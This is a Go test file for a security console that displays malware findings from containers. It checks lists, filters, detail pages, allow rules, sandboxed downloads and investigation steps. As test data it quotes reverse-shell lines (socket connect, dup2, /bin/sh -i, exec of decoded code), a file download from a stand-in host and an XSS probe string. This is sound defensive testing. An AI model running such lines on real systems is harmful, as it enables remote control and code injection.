package consoletest_test

import (
	"encoding/json"
	"net/http"
	"net/url"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"kingsnake/console/consoletest"
	"kingsnake/finding"
)

func TestPagesShowEveryFindingOnce(t *testing.T) {
	t.Parallel()
	s := signedIn(t, samples())
	seen := map[string]bool{}
	path := "/findings"
	for range 10 {
		doc := s.page(t, path)
		for _, n := range all(doc, "tbody th a") {
			if href := attr(n, "href"); seen[href] {
				t.Errorf("%s is listed twice", href)
			} else {
				seen[href] = true
			}
		}
		next := all(doc, "a[rel=next]")
		if len(next) == 0 {
			break
		}
		path = attr(next[0], "href")
	}
	if want := len(samples()) + 3; len(seen) != want {
		t.Errorf("%d findings on all pages, want %d, three about sensors among them", len(seen), want)
	}
}

func TestFiltersSelect(t *testing.T) {
	t.Parallel()
	s := signedIn(t, samples())
	shell := consoletest.Shell()
	for query, want := range map[string][]string{
		"sha256=" + shell.Script.SHA256:                           {"/tmp/.cache/session.py"},
		"text=SESSION.PY":                                         {"/tmp/.cache/session.py"},
		"namespace=shop&node=node-a1&severity=CRITICAL&since=10m": {"/bin/dash", "/tmp/.cache/session.py"},
		"since=2026-11-23T14:26:00Z&until=2026-11-23T14:28:00Z":   {"/bin/dash", "/tmp/.cache/session.py"},
		"kind=program": {"/bin/dash"},
		"image=registry.example.com%2Fci%2Fbuilder%3Alatest": {"Code given with -c"},
		"text=%22%3E%3Cscript%3Ealert(1)":                    nil,
		"severity=NONE":                                      nil,
	} {
		doc := s.page(t, "/findings?"+query)
		if diff := cmp.Diff(want, texts(doc, "tbody th a")); diff != "" {
			t.Errorf("%s (-want +got):\n%s", query, diff)
		}
		chips := texts(doc, ".chip")
		if n := strings.Count(query, "=") - strings.Count(query, "%3D"); len(chips) != n {
			t.Errorf("%s: chips %q, want %d", query, chips, n)
		}
	}
}

func TestTheFormKeepsWhatTheAddressSays(t *testing.T) {
	t.Parallel()
	s := signedIn(t, samples())
	doc := s.page(t, "/findings?severity=MEDIUM&state=ACTIVE&kind=c&since=3h&text=a%22%3Cb&node=n1")
	got := map[string]string{}
	for _, n := range all(doc, ".filters option[selected]") {
		got[attr(n.Parent, "name")] = attr(n, "value")
	}
	for _, n := range all(doc, ".filters input") {
		got[attr(n, "name")] = attr(n, "value")
	}
	want := map[string]string{"severity": "MEDIUM", "state": "ACTIVE", "kind": "c", "since": "3h", "until": "",
		"text": `a"<b`, "namespace": "", "image": "", "node": "n1"}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("form (-want +got):\n%s", diff)
	}
}

func TestTheAddressPeopleShareIsClean(t *testing.T) {
	t.Parallel()
	s := signedIn(t, samples())
	r := s.get(t, "/findings?text=a&severity=&kind=&junk=&since=24h")
	if r.StatusCode != http.StatusSeeOther || r.Header.Get("Location") != "/findings?since=24h&text=a" {
		t.Errorf("status %d to %q", r.StatusCode, r.Header.Get("Location"))
	}
	if r := s.get(t, "/findings?after=nonsense"); r.StatusCode != http.StatusBadRequest {
		t.Errorf("a cursor nobody gave out: status %d", r.StatusCode)
	}
}

func TestAFragmentIsThePartOfThePage(t *testing.T) {
	t.Parallel()
	s := signedIn(t, samples())
	r := s.request(t, http.MethodGet, "/findings?severity=CRITICAL", "")
	r.Header.Set("X-Fragment", "list")
	part := s.do(t, r)
	if strings.Contains(part.body, "<html") || part.Header.Get("Vary") != "X-Fragment" {
		t.Errorf("Vary %q, %.80s", part.Header.Get("Vary"), part.body)
	}
	whole := s.get(t, "/findings?severity=CRITICAL")
	if !strings.Contains(whole.body, part.body) {
		t.Error("the page does not hold the fragment as it is")
	}
}

func TestAProgramsPageIsAboutTheProgram(t *testing.T) {
	t.Parallel()
	s := signedIn(t, samples())
	f := consoletest.Program()
	doc := s.page(t, "/findings/"+f.Name)
	got := facts(doc, "detected")
	for label, want := range map[string]string{
		"Program binary": "/bin/dash", "Connections": "192.0.2.1:4444 from 10.1.2.3:51234", "Script": "",
	} {
		if got[label] != want {
			t.Errorf("%s: %q, want %q", label, got[label], want)
		}
	}
	var rows []string
	for _, n := range all(doc, ".timeline tbody tr") {
		rows = append(rows, strings.Join(strings.Fields(strings.Join(texts(n, "td:last-child"), " ")), " "))
	}
	want := []string{"started process 48220", "executed /usr/bin/id id", "asked for a connection with 192.0.2.9:80 2 times", "opened for writing /tmp/.a"}
	if diff := cmp.Diff(want, rows); diff != "" {
		t.Errorf("timeline (-want +got):\n%s", diff)
	}
	if n := len(all(doc, ".texts")) + len(all(doc, "[download]")); n != 0 {
		t.Errorf("%d parts of the page are about a script", n)
	}
	if got := strings.Join(texts(doc, "#reason-1 p"), " "); !strings.Contains(got, "192.0.2.1:4444") {
		t.Errorf("the reason reads %q", got)
	}
	if got := strings.Join(texts(doc, ".lead"), " "); strings.Contains(got, "probability") {
		t.Errorf("a model is quoted: %q", got)
	}
}

func TestTheSummarySaysWhatWasDetected(t *testing.T) {
	t.Parallel()
	s := signedIn(t, samples())
	shell := consoletest.Shell()
	doc := s.page(t, "/findings/"+shell.Name)
	detected := facts(doc, "detected")
	for label, want := range map[string]string{
		"Program binary": "/usr/local/bin/python3.12", "Script": "/tmp/.cache/session.py",
		"Arguments": "python3/tmp/.cache/session.py--interval30empty",
	} {
		if detected[label] != want {
			t.Errorf("%s: %q, want %q", label, detected[label], want)
		}
	}
	resource := facts(doc, "resource")
	for label, want := range map[string]string{
		"Resource full name": "//container.googleapis.com/projects/demo-project/locations/us-central1-a/clusters/prod-1",
		"Pod":                "web-7c966b5d85-wvtln findings with this Pod",
		"Owner":              "Deployment web",
		"Service account":    "web",
	} {
		if resource[label] != want {
			t.Errorf("%s: %q, want %q", label, resource[label], want)
		}
	}
	var links []string
	for _, n := range all(doc, "section[aria-labelledby=related] a") {
		links = append(links, attr(n, "href"))
	}
	for _, want := range []string{
		"https://www.virustotal.com/gui/file/" + shell.Script.SHA256, "https://www.virustotal.com/gui/file/" + shell.Process.ExeSHA256,
		"https://attack.mitre.org/techniques/T1059/", "https://attack.mitre.org/techniques/T1059/006/", "https://attack.mitre.org/techniques/T1105/",
	} {
		if !strings.Contains(strings.Join(links, " ")+" ", want+" ") {
			t.Errorf("no link to %s among %q", want, links)
		}
	}
	want := "A script file, /tmp/.cache/session.py, ran in pod shop/web-7c966b5d85-wvtln, container web. The model calls it malicious, " +
		"with a probability of over 99.9%. The weightiest reason: It gives a network connection control of a shell."
	if got := texts(doc, ".lead")[0]; got != want {
		t.Errorf("sentence %q, want %q", got, want)
	}
}

func TestReasonsLeadToTheirLines(t *testing.T) {
	t.Parallel()
	s := signedIn(t, samples())
	base := "/findings/" + consoletest.Shell().Name
	doc := s.page(t, base)
	if diff := cmp.Diff([]string{"line 14", "line 16", "line 17", "line 20", "line 25", "layer 1, line 3", "layer 1, line 4"}, texts(doc, ".places a")); diff != "" {
		t.Errorf("places (-want +got):\n%s", diff)
	}
	flagged := texts(doc, ".code mark")
	if diff := cmp.Diff([]string{"s.connect((HOST, PORT))", "os.dup2(s.fileno(), fd)", `subprocess.call(["/bin/sh", "-i"])`, "base64.b64decode(", "exec(stage)"}, flagged); diff != "" {
		t.Errorf("flagged (-want +got):\n%s", diff)
	}
	if diff := cmp.Diff([]string{"reason 1"}, texts(doc, "#L14 .why a")); diff != "" {
		t.Errorf("reasons of line 14 (-want +got):\n%s", diff)
	}
	doc = s.page(t, base+"?layer=1")
	if diff := cmp.Diff([]string{`urllib.request.urlretrieve("http://example.com/a", "/tmp/.a")`}, texts(doc, "#M3 mark")); diff != "" {
		t.Errorf("layer 1, line 3 (-want +got):\n%s", diff)
	}
	if got := len(all(doc, "#L14")); got != 1 {
		t.Errorf("the script is there %d times beside its layer", got)
	}
}

func TestAbsentThingsSayWhy(t *testing.T) {
	t.Parallel()
	s := signedIn(t, samples())
	doc := s.page(t, "/findings/"+consoletest.Command().Name)
	if got, want := facts(doc, "detected")["Script"], "Absent: the code was an argument after -c, so there is no file."; got != want {
		t.Errorf("-c: %q, want %q", got, want)
	}
	if got, want := facts(doc, "detected")["Arguments"], "python3-cthe script, shown below"; got != want {
		t.Errorf("-c: %q, want %q", got, want)
	}
	if got, want := facts(doc, "resource")["Pod"], "None: the container does not belong to a Kubernetes pod."; got != want {
		t.Errorf("-c: %q, want %q", got, want)
	}
	doc = s.page(t, "/findings/"+consoletest.Stdin().Name)
	if got, want := facts(doc, "detected")["Script"], "Absent: the code came in on standard input, so there is no file."; got != want {
		t.Errorf("stdin: %q, want %q", got, want)
	}
	if got, want := facts(doc, "resource")["Container"], "None: the script ran on the host, outside any container."; got != want {
		t.Errorf("host: %q, want %q", got, want)
	}
	doc = s.page(t, "/findings/"+consoletest.Hostile().Name)
	if got := texts(doc, "section[aria-labelledby=code] .say-warn li"); len(got) != 4 {
		t.Errorf("cut, incomplete, redacted and left out are said as %q", got)
	}
}

func TestAllowHereAndUndo(t *testing.T) {
	t.Parallel()
	s := signedIn(t, samples())
	shell := consoletest.Shell()
	path := "/findings/" + shell.Name
	r := s.post(t, path+"/allow", url.Values{"scope": {"here"}, "why": {" It is the \u202Ebackup <b>job</b>. "}})
	if r.StatusCode != http.StatusSeeOther || r.Header.Get("Location") != path+"#decision" {
		t.Fatalf("status %d to %q", r.StatusCode, r.Header.Get("Location"))
	}
	rules, err := s.store.Allows(t.Context())
	if err != nil || len(rules) != 1 {
		t.Fatalf("rules %+v, %v", rules, err)
	}
	rule := rules[0]
	if rule.Workload != shell.Workload.Key(shell.Process.Exe) || rule.SHA256 != shell.Script.SHA256 || !strings.HasPrefix(rule.By, "console session ") {
		t.Errorf("rule %+v", rule)
	}
	doc := s.page(t, path)
	if got := texts(doc, "#decision ~ .say-good .rule-why"); len(got) != 1 || got[0] != "“It is the U+202Ebackup <b>job</b>.”" {
		t.Errorf("the page says %q", got)
	}
	if got := texts(doc, ".badges .state"); got[0] != "Allowed" {
		t.Errorf("state %q", got)
	}
	if got := texts(s.page(t, "/settings"), ".rules tbody td"); len(got) != 4 || got[0] != "only in Deployment web, namespace shop" {
		t.Errorf("settings list %q", got)
	}
	undo := all(doc, "#decision ~ .say-good form")[0]
	r = s.post(t, attr(undo, "action"), url.Values{"next": {path}})
	if r.StatusCode != http.StatusSeeOther || r.Header.Get("Location") != path {
		t.Fatalf("undo: status %d to %q", r.StatusCode, r.Header.Get("Location"))
	}
	f, err := s.store.Get(t.Context(), shell.Name)
	if err != nil || f.State != finding.Active {
		t.Errorf("after undo: state %q, %v", f.State, err)
	}
	if doc = s.page(t, path); len(all(doc, ".decide")) != 1 || !strings.Contains(text(all(doc, "section[aria-labelledby=decision]")[0]), "Undone by console session") {
		t.Error("after undo the page does not offer the decision again, or hides the earlier one")
	}
}

func TestAllowEverywhere(t *testing.T) {
	t.Parallel()
	s := signedIn(t, samples())
	if r := s.post(t, "/findings/"+consoletest.Stdin().Name+"/allow", url.Values{"scope": {"everywhere"}, "why": {"ours"}}); r.StatusCode != http.StatusSeeOther {
		t.Fatalf("status %d", r.StatusCode)
	}
	rules, err := s.store.Allows(t.Context())
	if err != nil || len(rules) != 1 || rules[0].Workload != "" {
		t.Errorf("rules %+v, %v", rules, err)
	}
}

func TestADecisionNeedsAReasonAndAScope(t *testing.T) {
	t.Parallel()
	s := signedIn(t, samples())
	before := snapshot(t, s.store)
	path := "/findings/" + consoletest.Shell().Name + "/allow"
	for _, form := range []url.Values{{}, {"scope": {"here"}}, {"scope": {"here"}, "why": {"  "}}, {"why": {"x"}}, {"scope": {"all"}, "why": {"x"}}} {
		if r := s.post(t, path, form); r.StatusCode != http.StatusBadRequest {
			t.Errorf("%v: status %d", form, r.StatusCode)
		}
	}
	for _, gone := range []string{"/findings/none/allow", "/allows/none/end"} {
		if r := s.post(t, gone, url.Values{"scope": {"here"}, "why": {"x"}}); r.StatusCode != http.StatusNotFound {
			t.Errorf("%s: status %d", gone, r.StatusCode)
		}
	}
	if diff := cmp.Diff(before, snapshot(t, s.store)); diff != "" {
		t.Errorf("the store changed (-want +got):\n%s", diff)
	}
}

func TestDownloadsAreFilesThatNothingRuns(t *testing.T) {
	t.Parallel()
	s := signedIn(t, samples())
	hostile := consoletest.Hostile()
	base := "/findings/" + hostile.Name
	for path, kind := range map[string]string{"/script": "application/octet-stream", "/json/v2": "application/json", "/json/legacy": "application/json"} {
		r := s.get(t, base+path)
		h := r.Header
		if r.StatusCode != http.StatusOK || h.Get("Content-Type") != kind || !strings.HasPrefix(h.Get("Content-Disposition"), `attachment; filename="`) ||
			h.Get("Content-Security-Policy") != "sandbox; default-src 'none'" || h.Get("X-Content-Type-Options") != "nosniff" {
			t.Errorf("%s: status %d, headers %v", path, r.StatusCode, h)
		}
		switch {
		case path == "/script" && r.body != string(hostile.Script.Contents):
			t.Error("the script is not byte for byte")
		case path != "/script" && !json.Valid([]byte(r.body)):
			t.Errorf("%s is not JSON", path)
		}
	}
	for _, path := range []string{base + "/json/v9", "/findings/none/script", "/findings/none/json/v2"} {
		if r := s.get(t, path); r.StatusCode != http.StatusNotFound {
			t.Errorf("%s: status %d", path, r.StatusCode)
		}
	}
}

func TestTheSevenSteps(t *testing.T) {
	t.Parallel()
	s := signedIn(t, samples())
	doc := s.page(t, "/findings/"+consoletest.Shell().Name+"/investigate")
	want := []string{
		"Step 1 Check the finding's details", "Step 2 Look at the cluster and the node", "Step 3 Look at the pod", "Step 4 Read the logs",
		"Step 5 Look into the running container", "Step 6 Research the attack", "Step 7 Respond",
	}
	if diff := cmp.Diff(want, texts(doc, ".step h2")); diff != "" {
		t.Errorf("steps (-want +got):\n%s", diff)
	}
	copied := map[string]bool{}
	for _, n := range all(doc, "button[data-text]") {
		copied[attr(n, "data-text")] = true
	}
	for _, want := range []string{
		"kubectl get node node-a1 -o yaml",
		"kubectl exec --namespace=shop -ti web-7c966b5d85-wvtln -c web -- /bin/sh",
		"resource.type=\"k8s_container\"\nresource.labels.project_id=\"demo-project\"\nresource.labels.location=\"us-central1-a\"\n" +
			"resource.labels.cluster_name=\"prod-1\"\nresource.labels.namespace_name=\"shop\"\nresource.labels.pod_name=\"web-7c966b5d85-wvtln\"",
		"resource.type=\"gce_instance\"\nresource.labels.instance_id=\"unknown\"",
		"kubectl delete pod --namespace=shop web-7c966b5d85-wvtln",
	} {
		if !copied[want] {
			t.Errorf("nothing to copy says %q", want)
		}
	}
	for i, shown := range texts(doc, ".command") {
		if want := strings.Join(strings.Fields(attr(all(doc, "button[data-text]")[i], "data-text")), " "); shown != want {
			t.Errorf("shown %q, copied %q", shown, want)
		}
	}
}

func TestStepsThatDoNotApplySaySo(t *testing.T) {
	t.Parallel()
	s := signedIn(t, samples())
	doc := s.page(t, "/findings/"+consoletest.Stdin().Name+"/investigate")
	for step, want := range map[string]string{
		"node": "does not run on Kubernetes", "pod": "outside any container, so there is no pod", "container": "Look at the running process",
		"logs": "For Google Kubernetes Engine only. Not known here, put them in:",
	} {
		if got := text(all(doc, "section[aria-labelledby="+step+"]")[0]); !strings.Contains(got, want) {
			t.Errorf("%s says %q", step, got)
		}
	}
	for _, n := range all(doc, "button[data-text]") {
		if strings.Contains(attr(n, "data-text"), "kubectl") {
			t.Errorf("it offers %q for a host", attr(n, "data-text"))
		}
	}
}

func TestNoCommandHoldsAHostileName(t *testing.T) {
	t.Parallel()
	s := signedIn(t, samples())
	doc := s.page(t, "/findings/"+consoletest.Hostile().Name+"/investigate")
	for _, n := range all(doc, "button[data-text]") {
		line := attr(n, "data-text")
		if strings.Contains(line, "resource.type=") || strings.Contains(line, "logName=") {
			continue // a query, quoted by its own rules
		}
		outside := true // of single quotes
		for i, c := range []byte(line) {
			switch {
			case c == '\'' && (i == 0 || line[i-1] != '\\'):
				outside = !outside
			case outside && (c == '`' || c == ';' && !strings.HasPrefix(line, "ls ") || c == '<' && !strings.Contains(line, "<<'END'")):
				t.Fatalf("%q stands bare in %q", c, line)
			}
		}
	}
}

func TestRelatedFindingsAreThoseOfTheSameContainer(t *testing.T) {
	t.Parallel()
	shell := consoletest.Shell()
	near, far, other := shell, shell, shell
	near.Name, near.Occurrence, near.Script.Path = "near", "near", "/tmp/near.py"
	near.EventTime = shell.EventTime.Add(-10 * 60e9)
	far.Name, far.Occurrence = "far", "far"
	far.EventTime = shell.EventTime.Add(-20 * 60e9)
	other.Name, other.Occurrence, other.Workload.ContainerID = "other", "other", "0123"
	s := signedIn(t, []finding.Finding{shell, near, far, other})
	doc := s.page(t, "/findings/"+shell.Name+"/investigate")
	if diff := cmp.Diff([]string{"/tmp/near.py"}, texts(doc, ".step tbody th a")); diff != "" {
		t.Errorf("related (-want +got):\n%s", diff)
	}
}

func TestAFindingThatIsGoneIsNotFound(t *testing.T) {
	t.Parallel()
	s := signedIn(t, nil)
	for _, tab := range []string{"", "/json", "/investigate", "/script"} {
		r := s.get(t, "/findings/"+strings.Repeat("0", 32)+tab)
		if r.StatusCode != http.StatusNotFound || !strings.Contains(r.body, "There is no such finding") {
			t.Errorf("%q: status %d", tab, r.StatusCode)
		}
	}
}

func TestACompiledTextAndItsScriptLeadToEachOther(t *testing.T) {
	t.Parallel()
	shell, compiled := consoletest.Shell(), consoletest.Compiled()
	s := signedIn(t, append(consoletest.Many(20), shell, compiled))

	doc := s.page(t, "/findings/"+compiled.Name)
	for selector, want := range map[string]string{
		".layers a":                "The script that compiled it",
		"main":                     "Text compiled at run time by " + shell.Script.Path,
		".facts dt, .facts th, dt": "Compiled by",
	} {
		if got := strings.Join(texts(doc, selector), "\n"); !strings.Contains(got, want) {
			t.Errorf("%s: want %q in %q", selector, want, got)
		}
	}
	doc = s.page(t, "/findings/"+compiled.Name+"?layer=1")
	if got := strings.Join(texts(doc, ".texts"), "\n"); !strings.Contains(got, "192.0.2.1") {
		t.Errorf("the script that compiled it is not shown beside: %q", got)
	}

	doc = s.page(t, "/findings/"+shell.Name)
	var links []string
	for _, a := range all(doc, "[data-compiled] a") {
		links = append(links, attr(a, "href"))
	}
	if diff := cmp.Diff([]string{"/findings/" + compiled.Name}, links); diff != "" {
		t.Errorf("links to what it compiled (-want +got):\n%s", diff)
	}
}
